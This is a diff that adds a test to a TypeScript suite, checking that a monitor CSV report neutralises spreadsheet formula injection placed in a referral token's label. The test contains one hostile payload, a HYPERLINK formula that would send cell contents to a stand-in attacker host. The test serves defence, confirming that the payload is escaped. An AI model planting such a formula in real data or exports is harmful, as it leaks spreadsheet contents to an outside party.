@@ -9,6 +9,7 @@ import { TestClock } from '../../testing/testClock.js';
 import { unwrap } from '../../testing/chatScenario.js';
 import { decodeQrPath } from '../../testing/decodeQr.js';
 import type { Ack } from '../../../protocol/ack.js';
+import { parseCsv } from '../../../domain/codebook/csvRfc4180.js';
 
 describe.each(['sqlite', 'postgres'] as const)('visibility on %s', (dialect) => {
   let server: TestServer;
@@ -117,6 +118,21 @@ describe.each(['sqlite', 'postgres'] as const)('visibility on %s', (dialect) => 
     const counsellor = await signedIn('counsellor');
     expect((await callApi(server, counsellor, 'GET', '/api/reports/visibility?from=2026-12-01&to=2026-12-31')).status).toBe(403);
     expect((await server.app.ctx.repos.audit.list({ action: 'report.view', staffId: researcher.id })).length).toBe(3);
+  });
+
+  it("attack: a token's label cannot put a formula into the researcher's monitor spreadsheet", async () => {
+    const admin = await signedIn('admin');
+    const label = '=HYPERLINK("https://evil.example/?"&A1,"Klik")';
+    expect((await callApi(server, admin, 'POST', '/api/referrals', { token: 'school-oost', label, kind: 'partner' })).status).toBe(201);
+    await callApi(server, null, 'POST', '/api/visibility/arrivals', { via: 'school-oost' });
+    const researcher = await signedIn('researcher');
+    const csv = await callApi(server, researcher, 'GET', '/api/reports/monitor.csv?year=2026');
+    expect(csv.status).toBe(200);
+    const { records, issues } = parseCsv(csv.body as string);
+    expect(issues).toEqual([]);
+    const cells = records.flat();
+    expect(cells).toContain(`'${label} (school-oost)`);
+    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
   });
 
   it('lets one address add only a burst of arrivals, answering the same, so nobody inflates a partner’s figures', async () => {
